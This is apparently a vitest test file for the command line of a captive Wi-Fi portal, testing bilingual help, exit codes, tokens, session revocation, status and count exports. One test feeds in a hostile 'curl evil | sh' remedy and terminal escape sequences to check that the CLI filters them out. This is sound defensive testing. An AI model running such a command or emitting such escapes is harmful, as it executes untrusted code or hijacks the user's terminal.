import { once } from 'node:events';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { COMMANDS, loadCommands } from '../../src/cli/commands.ts';
import { kitFilesOf } from '../../src/print/kit.ts';
import { startTrial } from '../checkpoint/trial.ts';
import { temporaryFolder } from '../doubles.ts';
import { checkpointOf, exampleCheckpoint, ROOT } from '../example.ts';
import { cli } from './cli.ts';

const EXAMPLE = ['--config', join(ROOT, 'deploy/raspberry-pi/checkpoint.toml')];

describe('the command line', () => {
  test('without words shows every command, in 80 columns, in the machine`s language', async () => {
    for (const [language, word] of [
      ['en_GB.UTF-8', 'Usage:'],
      ['vi_VN.UTF-8', 'Dùng:'],
      ['', 'Dùng:'],
    ] as const) {
      const { status, stdout } = await cli([], language);
      expect([status, stdout.split(' ')[0]]).toEqual([0, word]);
      for (const { name } of COMMANDS) expect(stdout).toContain(`\n  ${name} `);
      for (const line of stdout.split('\n')) expect(line.length, line).toBeLessThanOrEqual(80);
    }
  });

  test('every command is listed by its own name', async () => {
    expect((await loadCommands()).map(({ name }) => name)).toEqual(COMMANDS.map(({ name }) => name));
  });

  test.each(COMMANDS.map(({ name }) => name))('%s explains itself in both languages', async (name) => {
    const words = name.split(' ');
    const vi = await cli([...words, '--help', '--lang', 'vi']);
    const en = await cli([...words, '--help', '--lang=en']);
    expect([vi.status, en.status]).toEqual([0, 0]);
    expect(vi.stdout).toContain('--lang');
    expect(vi.stdout).not.toBe(en.stdout);
  });

  test.each([
    [['dance'], 2],
    [['--version'], 0],
    [['-h'], 0],
    [['render', '-h'], 0],
    [['render', '--loud'], 2],
    [['token', 'create'], 2],
    [['token', 'create', 'a', 'b'], 2],
    [['config', 'check', '--config', '/nowhere.toml'], 78],
    [['render', '--config', '/nowhere.toml'], 78],
    [['config', 'check', ...EXAMPLE], 0],
    [['config', 'show', ...EXAMPLE], 0],
    [['token', 'revoke', '../status', ...EXAMPLE], 1],
    [['render', '--out', '/proc/x', ...EXAMPLE], 1],
    [['render', '--out', '/no/such/place', ...EXAMPLE], 1],
    [['print-kit', ...EXAMPLE], 2],
    [['print-kit', '--out', '/no/such/place', ...EXAMPLE], 1],
    [['--lang', 'en', 'config', 'check', ...EXAMPLE], 0],
  ])('%j ends with %i', async (words, status) => {
    const result = await cli(words);
    expect(result.status).toBe(status);
    expect(result.stdout === '').toBe(status !== 0);
    expect(result.stderr === '').toBe(status === 0);
  });

  test('a config with faults has all of them named, and is used for nothing', async () => {
    const file = join(temporaryFolder(), 'checkpoint.toml');
    writeFileSync(file, '[checkpoint]\nid = "A b"\n[access]\ninterface = 1\n[uplink]\nport = 1\n');
    for (const words of [['config', 'check'], ['portal'], ['gate'], ['render'], ['status']]) {
      const { status, stderr, stdout } = await cli([...words, '--config', file, '--lang', 'en']);
      expect([status, stdout]).toEqual([78, '']);
      for (const path of [
        'checkpoint.id',
        'checkpoint.name',
        'access.interface',
        'access.ssid',
        'uplink.port',
      ]) {
        expect(stderr).toContain(path);
      }
    }
    const { stdout } = await cli(['config', 'check', '--config', file, '--json']);
    expect(JSON.parse(stdout)).toMatchObject({ ok: false, problems: expect.any(Array) });
  });
});

test('the language is what --lang says, wherever it stands, and no other word', async () => {
  for (const words of [
    ['token', 'create', '--lang', 'en'],
    ['--lang=en', 'token', 'create'],
  ]) {
    expect((await cli(words)).stderr).toContain('Remedy: write `checkpoint-portal token create NAME`');
  }
  expect((await cli(['token', 'create', 'en', 'en', '--lang', 'vi'], 'en_US.UTF-8')).stderr).toContain(
    'Cách sửa',
  );
});

test('the print kit is written, and what it does without is told', async () => {
  const folder = temporaryFolder();
  const config = join(folder, 'checkpoint.toml');
  const example = readFileSync(EXAMPLE[1] ?? '', 'utf8');
  writeFileSync(config, example.replace('"KHAI BAO Y TE"', '"WiFi 你好"'));
  const words = ['print-kit', '--out', join(folder, 'to-in'), '--config', config, '--lang', 'en'];
  const { status, stdout, stderr } = await cli(words);
  expect([status, stderr.split('\n')[0]]).toEqual([0, 'the font has no: 你 好']);
  for (const { name } of kitFilesOf(exampleCheckpoint())) {
    expect(stdout).toContain(`/to-in/${name}\n`);
    expect(statSync(join(folder, 'to-in', name)).size).toBeGreaterThan(1000);
  }
  const told = JSON.parse((await cli([...words, '--json'])).stdout);
  expect(told).toMatchObject({ languages: ['vi', 'en'], leftOut: [], missingLetters: ['你', '好'] });
  expect(told.files).toHaveLength(kitFilesOf(exampleCheckpoint()).length);
  const [line = ''] = readFileSync(join(folder, 'to-in', 'bulletin.txt'), 'utf8').split('\n');
  expect(line).toBe('BẢN TIN ĐỌC LOA');
});

describe('beside a running portal', () => {
  test('a token is made, listed, used and revoked; the socket is its owner`s alone', async () => {
    const { toml, folder, report } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    const made = await cli(['token', 'create', 'huyện Chư Sê', '--config', file]);
    const token = made.stdout.trim();
    const headers = { Authorization: `Bearer ${token}` };
    expect((await fetch(`${report}/api/v1/counts`, { headers })).status).toBe(200);
    const list = await cli(['token', 'list', '--config', file]);
    expect(list.stdout).toContain('huyện Chư Sê');
    expect(list.stdout).not.toContain(token.slice(12));
    const revoked = await cli(['token', 'revoke', token.slice(3, 11), '--config', file]);
    expect(revoked.status).toBe(0);
    expect((await fetch(`${report}/api/v1/counts`, { headers })).status).toBe(401);
    expect((await cli(['token', 'revoke', token.slice(3, 11), '--config', file])).status).toBe(1);
    expect(statSync(join(folder, 'portal.sock')).mode & 0o077).toBe(0);
  });

  test('revoke ends the session of the phone whose address is typed, or everybody`s', async () => {
    const { toml, folder, portal } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    const words = ['revoke', '--config', file, '--lang', 'en'];
    await fetch(`${portal}/accept`, { method: 'POST' });
    // On a laptop each address is a client of its own.
    expect((await cli(words, '', '02:00:7f:00:00:02\n')).stdout).toBe('sessions ended: 0\n');
    expect((await cli(words, '', '02:00:7F:00:00:01\n')).stdout).toBe('sessions ended: 1\n');
    await fetch(`${portal}/accept`, { method: 'POST' });
    expect((await cli([...words, '--all'])).stdout).toBe('sessions ended: 1\n');
    for (const typed of ['', 'my phone\n']) {
      const { status, stderr } = await cli(words, '', typed);
      expect([status, stderr]).toEqual([2, expect.stringContaining('six pairs of digits')]);
    }
  });

  test('status and counts tell how it is', async () => {
    const { toml, folder, portal } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    await fetch(`${portal}/accept`, { method: 'POST' });
    const status = await cli(['status', '--config', file, '--json']);
    expect(JSON.parse(status.stdout)).toMatchObject({
      checkpoint: 'thu-nghiem',
      clientsGranted: 1,
      gate: 'ok',
      ledger: 'ok',
      uplink: 'ok',
    });
    const counts = await cli(['counts', '--config', file, '--lang', 'vi']);
    expect(counts.stdout).toMatch(/Tổng +1 +0 +1 +0 +0\n/);
    const json = await cli(['counts', '--config', file, '--json', '--by', 'hour']);
    expect(JSON.parse(json.stdout).totals.session).toBe(1);
    expect((await cli(['counts', '--config', file, '--from', 'yesterday', '--lang', 'en'])).stderr).toContain(
      '2021-02-28',
    );
  });

  test('counts --public are what may be published, and say so', async () => {
    const { toml, folder, portal, clock } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    await fetch(`${portal}/accept`, { method: 'POST' });
    const words = ['counts', '--config', file, '--public', '--lang', 'en'];
    const early = await cli([...words, '--from', '2021-02-01']);
    expect([early.status, early.stderr]).toEqual([2, expect.stringContaining('up to yesterday')]);
    clock.pass(24 * 3_600_000);
    const { stdout } = await cli(words);
    expect(stdout).toMatch(/2021-02-01 +<10 +0 +<10 +0 +0\nTotal +<10 +0 +<10 +0 +0\n/);
    expect(stdout).toContain('This is the public form');
    expect(stdout.split('\n').filter((line) => line.length > 80)).toEqual([]);
    const csv = await cli([...words, '--format', 'csv']);
    expect(csv.stdout).toContain('thu-nghiem,2021-02-01,16,1,0,ntp,<10,0,<10,0,0,0,0,');
    const hours = await cli([...words, '--by', 'hour']);
    expect([hours.status, hours.stderr]).toEqual([2, expect.stringContaining('use by=day, week or month')]);
  });

  test('counts are written to a file in the format that its name ends in, or to a pipe', async () => {
    const { toml, folder, portal } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    await fetch(`${portal}/accept`, { method: 'POST' });
    const words = ['counts', '--config', file, '--lang', 'en', '--by', 'month'];
    for (const [name, start] of [
      ['a.csv', '\uFEFFcheckpoint,start'],
      ['b.xlsx', 'PK'],
      ['c.json', '{'],
    ] as const) {
      const out = join(folder, name);
      expect(await cli([...words, '--out', out])).toEqual({ status: 0, stdout: `${out}\n`, stderr: '' });
      expect(readFileSync(out, 'utf8').startsWith(start)).toBe(true);
    }
    const piped = await cli([...words, '--format', 'csv']);
    expect(piped.stdout).toBe(readFileSync(join(folder, 'a.csv'), 'utf8'));
    expect(piped.stdout).toContain('\r\nthu-nghiem,2021-02,');
    for (const wrong of [
      ['--format', 'xlsx'],
      ['--format', 'docx'],
      ['--out', join(folder, 'report')],
    ]) {
      const { status, stdout, stderr } = await cli([...words, ...wrong]);
      expect([status, stdout]).toEqual([2, '']);
      expect(stderr).toContain('Remedy: write `checkpoint-portal counts --out figures.xlsx`');
    }
  });

  test.each([
    ['vi', /Chứng chỉ: +không đọc được .*\n +Cách sửa: trong \[tls\]/],
    ['en', /Certificate: +the certificate or its key cannot be read .*\n +Remedy: name the PEM files/],
  ])('status tells what is wrong with the certificate, with a remedy: %s', async (language, words) => {
    const { toml, folder, log } = await startTrial({
      tls: '[tls]\nname = "wifi.example.vn"\ncertificate = "/nowhere/c.pem"\nkey = "/nowhere/k.pem"\n',
    });
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    await expect.poll(() => log.lines.join()).toContain('cannot be read');
    const { status, stdout } = await cli(['status', '--config', file, '--lang', language]);
    expect([status, stdout]).toEqual([1, expect.stringMatching(words)]);
  });

  test.each([
    [
      'vi',
      /^Sổ đếm bị hỏng, phát hiện ngày 1\/2\/2021: .* 0 số đếm[\s\S]*ledger\.db\.damaged-1\.\n {4}Nên làm: /m,
    ],
    [
      'en',
      /^The ledger was found damaged on 1\/2\/2021: 0 counters[\s\S]*ledger\.db\.damaged-1\.\n {4}Advice: /m,
    ],
  ])('status tells of a damaged ledger, which is no fault any more: %s', async (language, words) => {
    const { toml, folder } = await startTrial({ ledgerFile: 'a power cut wrote this'.repeat(500) });
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    const look = () => cli(['status', '--config', file, '--lang', language]);
    await expect.poll(async () => (await look()).stdout).toMatch(words);
    const { status, stdout } = await look();
    expect(status).toBe(0);
    for (const line of stdout.split('\n')) expect(line.length, line).toBeLessThanOrEqual(80);
  });

  test('a second portal is refused, and the first goes on', async () => {
    const { toml, folder, portal } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    const second = await cli(['portal', '--config', file, '--lang', 'en']);
    expect([second.status, second.stderr]).toEqual([
      1,
      expect.stringMatching(/is in use.*\n +Remedy: stop the other/),
    ]);
    expect((await fetch(portal)).status).toBe(200);
  });

  test('a portal that was taken over says no control sign to who asks how it is, nor what to do', async () => {
    const { toml, folder, stop } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    const { stdout } = await cli(['status', '--config', file, '--json']);
    await stop();
    const evil = { vi: '\u001b]52;c;ZXZpbA==\u0007', en: '\u009b2J' };
    const order = { vi: 'curl evil | sh', en: 'curl evil | sh' };
    const answer = { ...JSON.parse(stdout), certificate: { good: false, why: evil, remedy: order } };
    const push = { state: 'failing', fault: { kind: 'silent', why: evil, remedy: order } };
    const portal = createServer((_, response) => response.end(JSON.stringify({ ...answer, push })));
    await once(portal.listen(checkpointOf(toml).storage.controlSocket), 'listening');
    onTestFinished(() => void portal.close());
    for (const language of ['vi', 'en']) {
      const told = await cli(['status', '--config', file, '--lang', language]);
      expect(told.stdout.length).toBeGreaterThan(100);
      expect(told.stdout).not.toMatch(/[^\P{Cc}\n]|curl/u);
    }
  });

  test('a portal that does not run is said so, with a remedy', async () => {
    const { toml, folder, stop } = await startTrial();
    const file = join(folder, 'checkpoint.toml');
    writeFileSync(file, toml);
    await stop();
    const { status, stderr } = await cli(['status', '--config', file, '--lang', 'en']);
    expect([status, stderr]).toEqual([1, expect.stringContaining('systemctl restart checkpoint-portal')]);
  });
});
